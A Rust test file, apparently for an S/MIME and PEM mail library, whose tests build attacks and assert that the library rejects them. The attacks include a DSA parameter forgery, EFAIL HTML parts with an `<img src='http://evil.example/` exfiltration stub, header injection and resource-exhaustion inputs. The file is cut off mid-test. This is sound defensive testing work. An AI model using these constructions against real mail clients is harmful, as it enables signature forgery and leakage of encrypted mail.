//! Attacks on S/MIME and classic PEM that take certificates of their own or the built program: each is built here, with openssl or by hand.

use std::{
    fs,
    path::PathBuf,
    process::{Command, Output},
    sync::LazyLock,
    time::{Duration, Instant},
};

use crate::support::der::{content_info, octets, oid, sequence, tlv};
use crypto_bigint::{BoxedUint, NonZero, Resize};
use postseal::{
    base::{Limits, SystemClock, SystemRandom},
    crypto::{Curve, Hash, KeyAlgorithm, Legacy, generate},
    engine::{Engine, Opening},
    keys::{Binding, Memory},
    mail::{Message, encoding::base64_encode},
    pki::{Certificate, Revocation},
    protocol::{Context, smime::keyfile},
    verdict::{LayerKind, Signature, Standing, State, Why},
};

const TEXT: &str = "Content-Type: text/plain\r\n\r\nThe bearer may pass.\r\n";
const SECRET: &str = "Content-Type: text/plain\r\n\r\nLunch is at noon.\r\n";

/// Keys and certificates made by openssl, once for all tests: `root` (DSA) and `people.pem` (alice and bob, RSA, each self-signed).
struct Lab(tempfile::TempDir);

static LAB: LazyLock<Lab> = LazyLock::new(|| {
    let lab = Lab(tempfile::tempdir().unwrap());
    for name in ["alice", "bob"] {
        let subject = format!("/CN={name}/emailAddress={name}@example.org");
        let (key, certificate) = (format!("{name}.key"), format!("{name}.crt"));
        lab.run(&[
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "36500",
            "-subj",
            &subject,
            "-keyout",
            &key,
            "-out",
            &certificate,
        ]);
        fs::write(lab.path(&format!("{name}.pem")), [lab.read(&key), lab.read(&certificate)].concat()).unwrap();
    }
    for name in ["ca", "between", "evil"] {
        lab.run(&["genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", &format!("{name}.key")]);
    }
    lab.run(&["dsaparam", "-out", "params", "2048"]);
    for name in ["dsa-root", "dsa-leaf"] {
        lab.run(&["gendsa", "-out", &format!("{name}.key"), "params"]);
    }
    let root = ["-subj", "/CN=DSA root", "-days", "36500", "-out", "dsa-root.crt"];
    lab.run(&[&["req", "-x509", "-new", "-sha256", "-key", "dsa-root.key"][..], &root].concat());
    lab
});

impl Lab {
    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn read(&self, name: &str) -> Vec<u8> {
        fs::read(self.path(name)).unwrap()
    }

    fn openssl(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new("openssl");
        command.args(arguments).current_dir(self.0.path());
        command
    }

    fn run(&self, arguments: &[&str]) -> Vec<u8> {
        let output = self.openssl(arguments).output().unwrap();
        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    }

    /// `text` for bob, as a MIME part.
    fn encrypted(&self, name: &str, text: &str) -> String {
        fs::write(self.path(name), text).unwrap();
        String::from_utf8(self.run(&["cms", "-encrypt", "-binary", "-aes256", "-in", name, "-recip", "bob.crt"]))
            .unwrap()
    }

    /// postseal with bob's key, given `message`.
    fn postseal(&self, name: &str, arguments: &[&str], message: &str) -> Output {
        fs::write(self.path(name), message).unwrap();
        let mut command = Command::new(env!("CARGO_BIN_EXE_postseal"));
        command.arg("--home").arg(self.path("no-home")).arg("--keys").arg(self.path("bob.pem")).args(arguments);
        command.arg(self.path(name)).output().unwrap()
    }
}

fn opened(message: impl Into<Vec<u8>>, keys: &Memory, legacy: Legacy) -> Opening {
    // The certificates are as old as the test.
    let context = Context { keys, clock: &SystemClock, random: &SystemRandom, legacy, revocation: Revocation::Soft };
    let engine = Engine::new(context, Limits::default());
    engine.open(Message::parse(message.into(), &mut engine.budget()).unwrap()).unwrap()
}

fn signatures(opening: &Opening) -> Vec<Signature> {
    let layers = opening.verdict().layers().iter();
    let signatures = layers.filter_map(|layer| match &layer.kind {
        LayerKind::Signed { signatures } => Some(signatures.clone()),
        _ => None,
    });
    signatures.flatten().collect()
}

fn anchored(certificate: &[u8]) -> Memory {
    let mut record = keyfile::describe(certificate, "anchor").unwrap().record;
    record.bind(Binding::Anchor);
    let mut memory = Memory::new();
    memory.add(record);
    memory
}

fn detached(text: &str, cms: &[u8]) -> String {
    let signature = String::from_utf8(base64_encode(cms)).unwrap();
    format!(
        "From: alice@example.org\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\r\n\r\n\
         --b\r\n{text}\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n\
         {signature}\r\n--b--\r\n"
    )
}

/// A leaf of the DSA root without parameters of its own, and a root of the same name that has the leaf's public number for a generator: then
/// the private number is 1, and anyone can sign.
#[test]
fn dsa_parameters_out_of_the_message_forge_nothing() {
    let root = Certificate::parse(&LAB.run(&["x509", "-in", "dsa-root.crt", "-outform", "DER"])).unwrap();
    let leaf_key = LAB.run(&["pkey", "-in", "dsa-leaf.key", "-pubout", "-outform", "DER"]);
    let (parameters, public) = dsa(&leaf_key);
    let bits = |content: &[u8]| tlv(3, &[&[0], content]);
    let kind = oid("1.2.840.10040.4.1");
    let name = |text: &str| sequence(&[&tlv(0x31, &[&sequence(&[&oid("2.5.4.3"), &tlv(12, &[text.as_bytes()])])])]);
    let algorithm = sequence(&[&oid("2.16.840.1.101.3.4.3.2")]);
    let validity = sequence(&[&tlv(23, &[b"200101000000Z"]), &tlv(23, &[b"400101000000Z"])]);
    let certificate = |serial: u8, subject: &[u8], key: &[u8], extensions: &[u8]| {
        let tbs = sequence(&[
            &tlv(0xa0, &[&[2, 1, 2]]),
            &[2, 1, serial],
            &algorithm,
            root.subject().der(),
            &validity,
            subject,
            key,
            extensions,
        ]);
        fs::write(LAB.path("tbs"), &tbs).unwrap();
        let signature = LAB.run(&["dgst", "-sha256", "-sign", "dsa-root.key", "tbs"]);
        sequence(&[&tbs, &algorithm, &bits(&signature)])
    };
    let names = sequence(&[&tlv(0x81, &[b"alice@example.org"])]);
    let extensions = tlv(0xa3, &[&sequence(&[&sequence(&[&oid("2.5.29.17"), &octets(&names)])])]);
    let leaf_spki = sequence(&[&sequence(&[&kind]), &bits(&tlv(2, &[&public]))]);
    let leaf = certificate(9, &name("Alice"), &leaf_spki, &extensions);
    let [p, q, _] = &parameters;
    let weak = sequence(&[&tlv(2, &[p]), &tlv(2, &[q]), &tlv(2, &[&public])]);
    let false_spki = sequence(&[&sequence(&[&kind, &weak]), &bits(&tlv(2, &[&public]))]);
    let false_root = certificate(10, root.subject().der(), &false_spki, &[]);

    let keys = anchored(root.der());
    let signed = |signature: &[u8], extra: &[u8]| {
        let signer = sequence(&[
            &[2, 1, 1],
            &sequence(&[root.subject().der(), &[2, 1, 9]]),
            &sequence(&[&oid("2.16.840.1.101.3.4.2.1")]),
            &algorithm,
            &octets(signature),
        ]);
        let data = sequence(&[
            &[2, 1, 1],
            &tlv(0x31, &[&sequence(&[&oid("2.16.840.1.101.3.4.2.1")])]),
            &sequence(&[&oid("1.2.840.113549.1.7.1")]),
            &tlv(0xa0, &[&leaf, extra]),
            &tlv(0x31, &[&signer]),
        ]);
        detached(TEXT, &content_info("1.2.840.113549.1.7.2", &data))
    };
    fs::write(LAB.path("dsa-text"), TEXT).unwrap();
    let honest = LAB.run(&["dgst", "-sha256", "-sign", "dsa-leaf.key", "dsa-text"]);
    let good = opened(signed(&honest, &[]), &keys, Legacy::Admit);
    assert_eq!(good.verdict().standing(), Standing::Authentic, "{:?}", signatures(&good));

    // With k = 1: r = g = y, and s = H + r.
    let order = NonZero::new(BoxedUint::from_be_slice_vartime(q)).unwrap();
    let r = BoxedUint::from_be_slice_vartime(&public).rem_vartime(&order);
    let digest = BoxedUint::from_be_slice_vartime(
        &Hash::Sha256.digest(TEXT.as_bytes())[..q.len().min(33) - usize::from(q[0] == 0)],
    );
    let s = (digest.resize(512).wrapping_add(r.clone().resize(512))).rem_vartime(&order);
    let number = |number: &BoxedUint| {
        let digits: Vec<u8> = number.to_be_bytes().iter().copied().skip_while(|octet| *octet == 0).collect();
        tlv(2, &[if digits[0] & 0x80 == 0 { &[] } else { &[0] }, &digits])
    };
    let forged = sequence(&[&number(&r), &number(&s)]);
    for extra in [&false_root[..], &[]] {
        let found = opened(signed(&forged, extra), &keys, Legacy::Admit);
        assert_eq!(found.verdict().standing(), Standing::Unsigned, "{:?}", signatures(&found));
        assert_eq!(signatures(&found)[0].state, State::Invalid(Why::Mismatch));
    }
    assert_eq!(opened(signed(&honest, &false_root), &keys, Legacy::Admit).verdict().standing(), Standing::Authentic);
}

/// p, q and g, and y, each as the content octets of an INTEGER.
fn dsa(spki: &[u8]) -> ([Vec<u8>; 3], Vec<u8>) {
    use ::der::{Decode, Reader, SliceReader, asn1::AnyRef, asn1::BitStringRef, asn1::ObjectIdentifier};
    let whole = AnyRef::from_der(spki).unwrap();
    let mut fields = SliceReader::new(whole.value()).unwrap();
    let algorithm: AnyRef<'_> = fields.decode().unwrap();
    let public: BitStringRef<'_> = fields.decode().unwrap();
    let mut algorithm = SliceReader::new(algorithm.value()).unwrap();
    let _: ObjectIdentifier = algorithm.decode().unwrap();
    let numbers: AnyRef<'_> = algorithm.decode().unwrap();
    let mut numbers = SliceReader::new(numbers.value()).unwrap();
    let parameters = [(); 3].map(|()| numbers.decode::<AnyRef<'_>>().unwrap().value().to_vec());
    (parameters, AnyRef::from_der(public.as_bytes().unwrap()).unwrap().value().to_vec())
}

/// EFAIL, section 4.1, by what `decrypt --parts` would put together: HTML of the attacker beside the plaintext.
#[test]
fn no_html_of_another_stands_beside_an_opened_part() {
    let html = "Content-Type: text/html\r\n\r\n<img src='http://evil.example/\r\n";
    let secret = LAB.encrypted("secret", SECRET);
    fs::write(LAB.path("html"), html).unwrap();
    let clear = LAB.run(&["cms", "-sign", "-in", "html", "-signer", "alice.crt", "-inkey", "alice.key"]);
    let opaque = LAB.run(&["cms", "-sign", "-nodetach", "-in", "html", "-signer", "alice.crt", "-inkey", "alice.key"]);
    let mixed = |beside: &str| {
        format!(
            "From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=outermost\r\n\r\n--outermost\r\n{beside}\r\n\
             --outermost\r\n{secret}\r\n--outermost--\r\n"
        )
    };
    let decrypt = |name: &str, beside: &str| LAB.postseal(name, &["decrypt", "--parts"], &mixed(beside));
    let output = decrypt("beside-text", "Content-Type: text/plain\r\n\r\nhi\r\n");
    assert!(String::from_utf8_lossy(&output.stdout).contains("Lunch is at noon."), "{output:?}");
    for (name, beside) in [
        ("html", html.to_owned()),
        ("html-clear", String::from_utf8(clear).unwrap()),
        ("html-opaque", String::from_utf8(opaque).unwrap()),
        ("html-encrypted", LAB.encrypted("html2", html)),
        (
            "html-winmail",
            "Content-Type: text/plain\r\n\r\nhi\r\n--outermost\r\n\
             Content-Type: text/html; name=winmail.dat\r\n\r\n<img src='http://evil.example/?smime.p7m\r\n"
                .to_owned(),
        ),
    ] {
        let output = decrypt(name, &beside);
        let (out, error) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        assert!(out.is_empty(), "{name}: {out}");
        assert_eq!(output.status.code(), Some(65), "{name}: {error}");
        // What CBC hid is not named: nothing authenticates it.
        let words = if name == "html-encrypted" { "it does not decrypt" } else { "stands beside what is encrypted" };
        assert!(error.contains(words), "{name}: {error}");
    }
}

fn pem(header: &str, text: &str) -> String {
    format!("-----BEGIN PRIVACY-ENHANCED MESSAGE-----\r\n{header}\r\n{text}-----END PRIVACY-ENHANCED MESSAGE-----\r\n")
}

/// A MIC-CLEAR message of alice's: its header, and its text.
fn mic_clear(text: &str) -> (String, String) {
    let message = format!("From: alice@example.org\r\n\r\n{text}");
    fs::write(LAB.path("clear"), message).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_postseal"));
    command.arg("--home").arg(LAB.path("no-home")).arg("--keys").arg(LAB.path("alice.pem"));
    let output = command.args(["sign", "-f", "pem"]).arg(LAB.path("clear")).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let signed = String::from_utf8(output.stdout).unwrap();
    let (_, block) = signed.split_once("MESSAGE-----\r\n").unwrap();
    let (header, rest) = block.split_once("\r\n\r\n").unwrap();
    let (text, _) = rest.split_once("-----END").unwrap();
    (format!("{header}\r\n"), text.to_owned())
}

fn alice() -> Memory {
    let mut record =
        keyfile::describe(&LAB.run(&["x509", "-in", "alice.crt", "-outform", "DER"]), "alice").unwrap().record;
    record.bind(Binding::Address(postseal::mail::Address::parse("alice@example.org").unwrap()));
    let mut memory = Memory::new();
    memory.add(record);
    memory
}

fn judged_pem(header: &str, text: &str) -> Opening {
    opened(format!("From: alice@example.org\r\n\r\n{}", pem(header, text)), &alice(), Legacy::Refuse)
}

fn written(opening: &Opening) -> String {
    let mut text = Vec::new();
    opening.write(&mut text).unwrap();
    String::from_utf8(text).unwrap()
}

/// CVE-2019-11841, CVE-2023-41037 in PEM's clothes.
#[test]
fn text_in_the_encapsulated_header_is_not_signed() {
    let (header, text) = mic_clear("The bearer may pass.\r\n");
    assert_eq!(judged_pem(&header, &text).verdict().standing(), Standing::Authentic);
    for injected in [
        "Dear Bob: pay Mallory.\r\n",
        "Comment: x\r\n Pay Mallory.\r\n",
        "Originator-Name: Dear Bob,\r\n pay Mallory.\r\n",
        "Recipient-Name: Bob,\r\n pay Mallory.\r\n",
        "Content-Domain: pay Mallory.\r\n",
        "CRL: pay Mallory\r\n",
    ] {
        let opening = judged_pem(&format!("{header}{injected}"), &text);
        assert_eq!(opening.verdict().standing(), Standing::Unsigned, "{injected:?} {:?}", signatures(&opening));
    }
}

#[test]
fn a_modulus_of_a_million_bits_is_no_key() {
    let started = Instant::now();
    // A modulus of a million bits in a PEM header.
    let modulus = vec![0xff; 130_000];
    let key = sequence(&[&tlv(2, &[&[0], &modulus]), &tlv(2, &[&[0], &modulus])]);
    let spki = sequence(&[&sequence(&[&oid("1.2.840.113549.1.1.1"), &[5, 0]]), &tlv(3, &[&[0], &key])]);
    let spki = String::from_utf8(base64_encode(&spki)).unwrap().replace("\r\n", "");
    let header = format!(
        "Proc-Type: 4,MIC-CLEAR\r\nOriginator-Key-Asymmetric: {}\r\nMIC-Info: RSA-SHA256,RSA,AAAA\r\n",
        spki.get(..200_000).unwrap_or(&spki)
    );
    let found = judged_pem(&header, "x\r\n");
    assert_eq!(signatures(&found)[0].state, State::Unknown(Why::NoKey));
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn what_a_pem_header_says_is_escaped() {
    let header = "Proc-Type: 4,MIC-CLEAR\r\nOriginator-Name: \u{1b}[2Jx\rauthentic: alice\r\nMIC-Info: \u{1b}[31mRSA,RSA,AAAA\r\n";
    let message = format!("From: alice@example.org\r\n\r\n{}", pem(header, "x\r\n"));
    for arguments in [&["verify"][..], &["decrypt"], &["inspect"]] {
        let output = LAB.postseal("escape", arguments, &message);
        let said = [&output.stderr[..], if arguments == ["decrypt"] { &[] } else { &output.stdout }].concat();
        assert!(
            !said.contains(&0x1b) && !said.contains(&b'\r'),
            "{arguments:?}: {}",
            String::from_utf8_lossy(&said).escape_debug()
        );
    }
}

/// A certificate that anyone could write, signed by openssl.
struct Draft<'a> {
    serial: u8,
    issuer: &'a str,
    subject: Vec<u8>,
    /// Whose public key it is.
    key: &'a str,
    extensions: Vec<Vec<u8>>,
}

impl Draft<'_> {
    /// One of Alice's by `ca`, with these extensions.
    fn leaf(extensions: &[Vec<u8>]) -> Self {
        Draft { serial: 7, issuer: "ca", subject: common("Alice"), key: "alice", extensions: extensions.to_vec() }
    }

    /// An authority's.
    fn authority(name: &str, extensions: &[Vec<u8>]) -> Vec<u8> {
        let is_authority = extension("2.5.29.19", &sequence(&[&[1, 1, 0xff]]));
        let extensions = [&[is_authority], extensions].concat();
        Draft { serial: 5, issuer: "ca", subject: common(name), key: name, extensions }.der()
    }

    fn der(&self) -> Vec<u8> {
        let spki = LAB.run(&["pkey", "-in", &format!("{}.key", self.key), "-pubout", "-outform", "DER"]);
        let algorithm = sequence(&[&oid("1.2.840.113549.1.1.11"), &[5, 0]]);
        let validity = sequence(&[&tlv(23, &[b"200101000000Z"]), &tlv(23, &[b"400101000000Z"])]);
        let extensions: Vec<&[u8]> = self.extensions.iter().map(Vec::as_slice).collect();
        let extensions = tlv(0xa3, &[&sequence(&extensions)]);
        let (issuer, serial) = (common(self.issuer), [2, 1, self.serial]);
        let tbs =
            [&tlv(0xa0, &[&[2, 1, 2]])[..], &serial, &algorithm, &issuer, &validity, &self.subject, &spki, &extensions];
        let tbs = sequence(&tbs);
        sequence(&[&tbs, &algorithm, &tlv(3, &[&[0], &sign(self.issuer, &tbs)])])
    }
}

fn common(name: &str) -> Vec<u8> {
    sequence(&[&tlv(0x31, &[&sequence(&[&oid("2.5.4.3"), &tlv(12, &[name.as_bytes()])])])])
}

fn extension(kind: &str, value: &[u8]) -> Vec<u8> {
    sequence(&[&oid(kind), &[1, 1, 0xff], &octets(value)])
}

fn rfc822(name: &[u8]) -> Vec<u8> {
    extension("2.5.29.17", &sequence(&[&tlv(0x81, &[name])]))
}

/// PKCS#1 v1.5 with SHA-256, by openssl.
fn sign(key: &str, octets: &[u8]) -> Vec<u8> {
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), octets).unwrap();
    LAB.run(&["dgst", "-sha256", "-sign", &format!("{key}.key"), file.path().to_str().unwrap()])
}

/// A SignerInfo without attributes, over the text.
fn signer(issuer: &str, serial: u8, key: &str, text: &str) -> Vec<u8> {
    sequence(&[
        &[2, 1, 1],
        &sequence(&[&common(issuer), &[2, 1, serial]]),
        &sequence(&[&oid("2.16.840.1.101.3.4.2.1")]),
        &sequence(&[&oid("1.2.840.113549.1.1.1"), &[5, 0]]),
        &octets(&sign(key, text.as_bytes())),
    ])
}

/// A SignedData; `content` are the elements after eContentType.
fn signed_data(content: &[u8], certificates: &[&[u8]], revocations: &[u8], signers: &[&[u8]]) -> Vec<u8> {
    let data = sequence(&[
        &[2, 1, 1],
        &tlv(0x31, &[&sequence(&[&oid("2.16.840.1.101.3.4.2.1")])]),
        &sequence(&[&oid("1.2.840.113549.1.7.1"), content]),
        &tlv(0xa0, certificates),
        revocations,
        &tlv(0x31, signers),
    ]);
    content_info("1.2.840.113549.1.7.2", &data)
}

/// The text signed by the key of `leaf`, whose certificate and `others` come along.
fn by(leaf: &Draft<'_>, others: &[&[u8]]) -> String {
    let der = leaf.der();
    let signer = signer(leaf.issuer, leaf.serial, leaf.key, TEXT);
    detached(TEXT, &signed_data(&[], &[&[&der[..]], others].concat(), &[], &[&signer]))
}

fn ca() -> Vec<u8> {
    Draft::authority("ca", &[])
}

/// Standing, and why not more.
fn outcome(message: impl Into<Vec<u8>>) -> String {
    let opening = opened(message, &anchored(&ca()), Legacy::Refuse);
    let one = |signature: Signature| match (signature.state, signature.reservation) {
        (State::Valid(_), None) => {
            let addresses: Vec<String> = signature.authenticated.iter().map(|one| one.address().to_string()).collect();
            format!("valid for {}", addresses.join(" "))
        }
        (State::Valid(_), Some(why)) => why.to_string(),
        (State::Invalid(why) | State::Unknown(why), _) => why.to_string(),
    };
    let why: Vec<String> = signatures(&opening).into_iter().map(one).collect();
    let error = opening.error().map(ToString::to_string).unwrap_or_default();
    format!("{}: {}{error}", opening.verdict().standing().name(), why.join("; "))
}

#[test]
fn certificates_that_may_not() {
    let alice = || rfc822(b"alice@example.org");
    let usage = |bits: u8| extension("2.5.29.15", &tlv(3, &[&[0, bits]]));
    let authority = extension("2.5.29.19", &sequence(&[&[1, 1, 0xff]]));
    let purposes = |kind: &str| extension("2.5.29.37", &sequence(&[&oid(kind)]));
    let wrong = "unsigned: the key is not meant for signing";
    let outcomes = [
        ("a CA that signs certificates alone", vec![alice(), authority, usage(0x06)], wrong),
        ("key encipherment alone", vec![alice(), usage(0x20)], wrong),
        ("servers", vec![alice(), purposes("1.3.6.1.5.5.7.3.1")], wrong),
        (
            "an unknown critical extension",
            vec![alice(), extension("1.2.3.4", &[5, 0])],
            "signed: certificate \"CN=Alice\": critical extension 1.2.3.4 is not known (RFC 5280, section 4.2)",
        ),
        (
            "an extension twice",
            vec![alice(), rfc822(b"mallory@evil.example")],
            "unsigned: certificate \"CN=Alice\": extension 2.5.29.17 is there twice (RFC 5280, section 4)",
        ),
    ];
    for (name, extensions, expected) in outcomes {
        assert_eq!(outcome(by(&Draft::leaf(&extensions), &[])), expected, "{name}");
    }
}

#[test]
fn one_content_and_no_more() {
    let leaf = Draft::leaf(&[rfc822(b"alice@example.org")]).der();
    let signer = signer("ca", 7, "alice", TEXT);
    let other = "Content-Type: text/plain\r\n\r\nPay Mallory.\r\n";
    let opaque = |content: &[u8]| {
        let cms = signed_data(content, &[&leaf], &[], &[&signer]);
        let base64 = String::from_utf8(base64_encode(&cms)).unwrap();
        format!(
            "From: alice@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{base64}"
        )
    };
    let (mine, theirs) = (octets(TEXT.as_bytes()), octets(other.as_bytes()));
    assert_eq!(outcome(opaque(&tlv(0xa0, &[&mine]))), "authentic: valid for alice@example.org");
    let after = "application/pkcs7-mime: octets after its end";
    for content in [
        tlv(0xa0, &[&mine, &theirs]),
        tlv(0xa0, &[&theirs, &mine]),
        [tlv(0xa0, &[&mine]), tlv(0xa0, &[&theirs])].concat(),
        [tlv(0xa0, &[&theirs]), tlv(0xa0, &[&mine])].concat(),
    ] {
        assert_eq!(outcome(opaque(&content)), format!("unsigned: {after}"));
    }
    let beside = "the signature is malformed: it holds content of its own besides the shown content";
    for signers in [&[&signer[..]][..], &[]] {
        let cms = signed_data(&tlv(0xa0, &[&mine]), &[&leaf], &[], signers);
        assert_eq!(outcome(detached(TEXT, &cms)), format!("unsigned: {beside}"));
    }
    let cms = signed_data(&tlv(0xa0, &[&sequence(&[])]), &[&leaf], &[], &[&signer]);
    assert_eq!(
        outcome(detached(TEXT, &cms)),
        "unsigned: the signature is malformed: application/pkcs7-mime: no element with tag 0x04 where one belongs"
    );
}

#[test]
fn what_is_deeper_than_the_root_does_not_count() {
    let signed = by(&Draft::leaf(&[rfc822(b"alice@example.org")]), &[]);
    let (from, part) = signed.split_once("\r\n").unwrap();
    assert_eq!(outcome(&*signed), "authentic: valid for alice@example.org");
    let wrapped = |kind: &str, inside: &str| {
        format!("{from}\r\nContent-Type: {kind}; boundary=w\r\n\r\n--w\r\n{inside}\r\n--w--\r\n")
    };
    let text = "Content-Type: text/plain\r\n\r\nPay Mallory.\r\n--w\r\n";
    let hidden = "Content-Type: text/html\r\n\r\n<div style='display:none'>\r\n--w\r\n";
    for (name, message) in [
        ("alone in a wrapper", wrapped("multipart/mixed", part)),
        ("after text", wrapped("multipart/mixed", &format!("{text}{part}"))),
        ("as the alternative", wrapped("multipart/alternative", &format!("{text}{part}"))),
        ("related to HTML that hides it", wrapped("multipart/related", &format!("{hidden}{part}"))),
        ("attached", wrapped("multipart/mixed", &format!("{text}Content-Type: message/rfc822\r\n\r\n{signed}"))),
        ("forwarded", format!("{from}\r\nContent-Type: message/rfc822\r\n\r\n{signed}")),
    ] {
        let opening = opened(message, &anchored(&ca()), Legacy::Refuse);
        assert_eq!(opening.verdict().standing(), Standing::Unsigned, "{name}");
        assert!(opening.verdict().layers().is_empty(), "{name}");
    }
    for (name, from) in [
        ("two mailboxes", "From: alice@example.org, mallory@evil.example"),
        ("two fields", "From: mallory@evil.example\r\nFrom: alice@example.org"),
        ("a name", "From: \"alice@example.org\" <mallory@evil.example>"),
        ("a comment", "From: mallory@evil.example (alice@example.org)"),
        ("a sender", "From: mallory@evil.example\r\nSender: alice@example.org"),
        ("nobody", "To: alice@example.org"),
    ] {
        assert_eq!(outcome(format!("{from}\r\n{part}")), "signed: valid for alice@example.org", "{name}");
    }
}

/// Keys that take longest to verify with, as many as may be tried.
#[test]
fn huge_keys_cost_little() {
    let signers: Vec<Vec<u8>> = (0..31).map(|serial| signer("X", serial, "alice", TEXT)).collect();
    let signers: Vec<&[u8]> = signers.iter().map(Vec::as_slice).collect();
    let spki = LAB.run(&["pkey", "-in", "alice.key", "-pubout", "-outform", "DER"]);
    let validity = sequence(&[&tlv(23, &[b"200101000000Z"]), &tlv(23, &[b"400101000000Z"])]);
    let certificate = |subject: &str, serial: u8, spki: &[u8], algorithm: &[u8], signature: &[u8]| {
        let tbs = sequence(&[
            &tlv(0xa0, &[&[2, 1, 2]]),
            &[2, 1, serial],
            algorithm,
            &common("X"),
            &validity,
            &common(subject),
            spki,
        ]);
        sequence(&[&tbs, algorithm, &tlv(3, &[&[0], signature])])
    };
    let number = |length: usize, seed: u8| {
        let mut number = vec![0xc7; length];
        number[0] = 0x7f;
        number[1] = seed;
        tlv(2, &[&[0], &number])
    };
    let dsa = |seed: u8| {
        let parameters = sequence(&[&number(1024, seed), &number(64, 1), &number(1000, 3)]);
        sequence(&[&sequence(&[&oid("1.2.840.10040.4.1"), &parameters]), &tlv(3, &[&[0], &number(1001, 5)])])
    };
    let small = [&[0x7f][..], &[0x11; 62]].concat();
    let dsa_signature = sequence(&[&tlv(2, &[&small]), &[2, 1, 1]]);
    let rsa = |seed: u8| {
        let exponent = tlv(2, &[&[1, 0xff, 0xff, 0xff, 0xff]]);
        let key = sequence(&[&number(2048, seed), &exponent]);
        sequence(&[&sequence(&[&oid("1.2.840.113549.1.1.1"), &[5, 0]]), &tlv(3, &[&[0], &key])])
    };
    let brainpool = |_: u8| {
        let (_, point) = generate(KeyAlgorithm::Ecdsa(Curve::BrainpoolP512)).unwrap();
        let named = sequence(&[&oid("1.2.840.10045.2.1"), &oid("1.3.36.3.3.2.8.1.1.13")]);
        sequence(&[&named, &tlv(3, &[&[0], &point])])
    };
    let by_ecdsa = sequence(&[&oid("1.2.840.10045.4.3.2")]);
    let ecdsa_signature = sequence(&[&tlv(2, &[&small]), &tlv(2, &[&small])]);
    let by_dsa = sequence(&[&oid("2.16.840.1.101.3.4.3.2")]);
    let by_rsa = sequence(&[&oid("1.2.840.113549.1.1.11"), &[5, 0]]);
    for (name, keys, algorithm, signature) in [
        ("dsa", (0..32).map(dsa).collect::<Vec<_>>(), by_dsa, dsa_signature),
        ("rsa", (0..32).map(rsa).collect(), by_rsa, vec![3; 2048]),
        ("brainpool", (0..32).map(brainpool).collect(), by_ecdsa, ecdsa_signature),
    ] {
        let leaves = (0..31).map(|serial| certificate("Alice", serial, &spki, &algorithm, &signature));
        let issuers = keys.iter().map(|spki| certificate("X", 99, spki, &algorithm, &signature));
        let certificates: Vec<Vec<u8>> = leaves.chain(issuers).collect();
        let certificates: Vec<&[u8]> = certificates.iter().map(Vec::as_slice).collect();
        let message = detached(TEXT, &signed_data(&[], &certificates, &[], &signers));
        let started = Instant::now();
        let found = outcome(message);
        assert_eq!(found, "unsigned: certification path: more than 2000 signatures to verify", "{name}");
        assert!(started.elapsed() < Duration::from_secs(20), "{name}: {:?}", started.elapsed());
    }
}

/// A revocation list of a million certificates, and as many signers as may be.
#[test]
fn a_huge_revocation_list_is_read_once() {
    let leaf = Draft::leaf(&[rfc822(b"alice@example.org")]).der();
    let algorithm = sequence(&[&oid("1.2.840.113549.1.1.11"), &[5, 0]]);
    let time = tlv(23, &[b"260101000000Z"]);
    let revoked: Vec<u8> =
        (0..500_000_u32).flat_map(|serial| sequence(&[&tlv(2, &[&[1], &serial.to_be_bytes()]), &time])).collect();
    let list = sequence(&[
        &[2, 1, 1],
        &algorithm,
        &common("ca"),
        &time,
        &tlv(23, &[b"270101000000Z"]),
        &sequence(&[&revoked]),
    ]);
    let crl = sequence(&[&list, &algorithm, &tlv(3, &[&[0], &sign("ca", &list)])]);
    let signer = signer("ca", 7, "alice", TEXT);
    let message = |signers: usize| {
        let signers = vec![&signer[..]; signers];
        detached(TEXT, &signed_data(&[], &[&leaf], &tlv(0xa1, &[&crl]), &signers))
    };
    let mut times = Vec::new();
    for signers in [1, 32] {
        let message = message(signers);
        let started = Instant::now();
        let found = outcome(message);
        assert!(found.starts_with("authentic: valid for alice@example.org"), "{found}");
        times.push(started.elapsed());
    }
    assert!(times[1] < times[0] * 8 + Duration::from_secs(1), "{times:?}");
}

/// Nine copies of a wrapped key that open to nothing: whether they have the right length shows nowhere.
#[test]
fn many_wrapped_keys_of_the_right_length_are_no_oracle() {
    let wrapped = |length: usize| {
        fs::write(LAB.path("dek"), vec![7; length]).unwrap();
        let arguments = ["pkeyutl", "-encrypt", "-pubin", "-inkey", "bob.pub", "-in", "dek"];
        LAB.run(&["pkey", "-in", "bob.key", "-pubout", "-out", "bob.pub"]);
        String::from_utf8(base64_encode(&LAB.run(&arguments))).unwrap().replace("\r\n", "\r\n ")
    };
    let said = |length: usize| {
        let key = wrapped(length);
        let readers = format!("Recipient-Name: bob@example.org\r\nKey-Info: RSA,\r\n {}\r\n", key.trim_end()).repeat(9);
        let header = format!("Proc-Type: 4,ENCRYPTED\r\nDEK-Info: DES-CBC,0011223344556677\r\n{readers}");
        let message = format!("From: alice@example.org\r\n\r\n{}", pem(&header, "AAAAAAAAAAAAAAAAAAAAAA==\r\n"));
        let output = LAB.postseal("oracle", &["--legacy", "decrypt"], &message);
        (output.status.code(), String::from_utf8(output.stderr).unwrap(), output.stdout)
    };
    let (right, wrong) = (said(8), said(9));
    assert_eq!(right, wrong);
    assert!(right.1.contains("its integrity check does not hold"), "{right:?}");
}

/// What stands beside an encapsulated message, or only looks like one.
#[test]
fn only_text_between_the_boundaries_is_signed() {
    let (header, text) = mic_clear("The bearer may pass.\r\n-- \r\nAlice\r\n");
    let block = pem(&header, &text);
    let standing = |message: &str| opened(message, &alice(), Legacy::Refuse).verdict().standing();
    let mail = |body: &str| format!("From: alice@example.org\r\n\r\n{body}");
    assert_eq!(standing(&mail(&block)), Standing::Authentic);
    let text_of_block = "Content-Type: text/html\r\n\r\n";
